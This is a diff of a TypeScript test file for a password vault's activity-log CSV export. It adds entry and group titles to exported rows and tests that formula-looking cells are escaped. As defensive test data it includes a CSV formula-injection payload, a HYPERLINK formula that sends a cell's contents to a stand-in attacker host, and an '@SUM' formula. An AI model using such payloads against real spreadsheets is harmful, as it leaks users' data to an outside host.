@@ -5,6 +5,7 @@ import type { LogEntry } from '../../../src/data/audit/auditLog';
 import { csvText } from '../../../src/features/import/export/csvExport';
 import { ACTIVITY_CSV_COLUMNS, activityCsv, activityCsvRow } from '../../../src/features/activity/activityCsv';
 import { collectLog } from '../../../src/features/activity/collectLog';
+import type { VaultNames } from '../../../src/features/activity/eventText';
 import { MemoryAuditLogRepository } from '../../doubles/memoryAuditLogRepository';
 
 const AT = Date.UTC(2026, 10, 27, 9, 30);
@@ -17,21 +18,36 @@ const entries: LogEntry[] = [
 ];
 
 describe('the activity log as CSV', () => {
-  it('one row per event: ISO time, actor, kind, a sentence naming no title, and the ids', () => {
-    expect(entries.map(activityCsvRow)).toEqual([
-      ['2026-11-27T09:30:00.000Z', '=cmd@x.com', 'eve', 'entry.edited', 'changed the password of an entry', 'entry-1', '', '', ''],
-      ['2026-11-27T09:29:59.000Z', 'ana@x.com', 'ana', 'entry.moved', 'moved an entry from a group to a group', 'entry-2', 'g-2', '', ''],
-      ['2026-11-27T09:29:58.000Z', 'ana@x.com', 'ana', 'member.roleChanged', 'changed +bob@x.com’s role from View Only to Admin', '', '', 'bob', ''],
-      ['2026-11-27T09:29:57.000Z', '', 'system', 'invitation.expired', 'expired the invitation of @carl@x.com', '', '', '', 'inv-1'],
-      ['', '', '', 'malformed', 'An event that could not be read (field "kind" is missing or has the wrong type)', '', '', '', ''],
+  it('one row per event: ISO time, actor, kind, a sentence naming no title, and the ids (no names: no titles)', () => {
+    expect(entries.map((entry) => activityCsvRow(entry))).toEqual([
+      ['2026-11-27T09:30:00.000Z', '=cmd@x.com', 'eve', 'entry.edited', 'changed the password of an entry', 'entry-1', '', '', '', '', ''],
+      ['2026-11-27T09:29:59.000Z', 'ana@x.com', 'ana', 'entry.moved', 'moved an entry from a group to a group', 'entry-2', '', 'g-2', '', '', ''],
+      ['2026-11-27T09:29:58.000Z', 'ana@x.com', 'ana', 'member.roleChanged', 'changed +bob@x.com’s role from View Only to Admin', '', '', '', '', 'bob', ''],
+      ['2026-11-27T09:29:57.000Z', '', 'system', 'invitation.expired', 'expired the invitation of @carl@x.com', '', '', '', '', '', 'inv-1'],
+      ['', '', '', 'malformed', 'An event that could not be read (field "kind" is missing or has the wrong type)', '', '', '', '', '', ''],
     ]);
   });
 
-  it('through the export’s writer: a header, and no formula-looking cell starts a cell unescaped', () => {
-    const text = activityCsv(entries, csvText);
+  it('puts the title beside the id of each entry and group the exporter can open, and the id alone for the rest', () => {
+    const names: VaultNames = {
+      entryTitle: (id) => (id === 'entry-1' ? 'Prod DB' : null),
+      groupName: (id) => (id === 'g-2' ? 'Servers' : null),
+    };
+    const moved = { ...entries[1]!, entryId: 'entry-1' } as LogEntry;
+    expect(activityCsvRow(moved, names).slice(4, 9)).toEqual(['moved an entry from a group to a group', 'entry-1', 'Prod DB', 'g-2', 'Servers']);
+    // entry-2 is not open (deleted, or not decryptable here): its id alone.
+    expect(activityCsvRow(entries[1]!, names).slice(5, 9)).toEqual(['entry-2', '', 'g-2', 'Servers']);
+    expect(activityCsvRow(entries[2]!, names).slice(5, 9)).toEqual(['', '', '', '']);
+  });
+
+  it('through the export’s writer: a header, and no formula-looking cell starts a cell unescaped, titles included', () => {
+    const hostile: VaultNames = { entryTitle: () => '=HYPERLINK("https://evil.example/?"&A1,"Open")', groupName: () => '@SUM(1+1)' };
+    const text = activityCsv(entries, csvText, hostile);
     const parsed = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' }).data;
     expect(parsed[0]).toEqual([...ACTIVITY_CSV_COLUMNS]);
     expect(parsed[1]?.[1]).toBe("'=cmd@x.com");
+    expect(parsed[1]?.[6]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Open")`);
+    expect(parsed[2]?.[8]).toBe("'@SUM(1+1)");
     expect(parsed[3]?.[4]).toBe('changed +bob@x.com’s role from View Only to Admin');
     expect(parsed[4]?.[4]).toBe("expired the invitation of @carl@x.com");
     for (const cell of parsed.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
